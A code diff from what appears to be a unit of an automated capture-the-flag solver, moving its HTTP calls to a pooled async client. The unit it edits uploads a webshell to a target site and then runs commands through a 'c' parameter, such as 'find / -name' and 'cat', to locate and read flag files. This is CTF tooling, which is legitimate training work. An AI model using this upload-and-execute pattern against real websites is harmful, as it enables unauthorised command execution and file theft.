@@ -27,7 +27,6 @@ lots of predefined variables that can be used throughout multiple web units.
 
 from io import StringIO
 
-import requests
 from katana.unit import NotApplicable
 from katana.units import web
 
@@ -126,11 +125,12 @@ class Unit(web.WebUnit):
             if file:
                 file = file[0].decode("utf-8")
 
-            try:
-                method = vars(requests)[method.lower()]
-            except IndexError:
+            # Requests go through the pooled HTTP client. Forms only GET or POST.
+            if method.lower() == "get":
+                method = self.manager.http.get
+            else:
                 # Could not find an appropriate HTTP method... defaulting to POST!"
-                method = requests.post
+                method = self.manager.http.post
 
             extensions = ["php", "gif", "php3", "php5", "php7"]
 
@@ -162,7 +162,7 @@ class Unit(web.WebUnit):
         else:
             return  # This will tell THE WHOLE UNIT to stop!
 
-    def evaluate(self, case: Any):
+    async def evaluate(self, case: Any):
         """
         Evaluate the target. Use the uploaded webshell to try and run commands
         and if command output is shown, find a potential flag location. If
@@ -179,14 +179,14 @@ class Unit(web.WebUnit):
         # Split up the self.target (see get_cases)
         method, action, file, ext, location, file_path = case
 
-        r = requests.get(
+        r = await self.manager.http.get_async(
             self.target.url_root.rstrip("/") + "/" + file_path,
             params={"c": f"/bin/echo -n {web.special}"},
         )
 
         if f"{web.delim}{web.special}{web.delim}" in r.text:
             for flagname in potential_flag_names:
-                r = requests.get(
+                r = await self.manager.http.get_async(
                     self.target.url_root.rstrip("/") + "/" + file_path,
                     params={"c": f"find / -name {flagname}"},
                 )
@@ -203,7 +203,7 @@ class Unit(web.WebUnit):
                     for fl in flag_locations.split("\n"):
                         fl = fl.strip()
 
-                        r = requests.get(
+                        r = await self.manager.http.get_async(
                             self.target.url_root.rstrip("/") + "/" + file_path,
                             params={"c": f"cat {fl}"},
                         )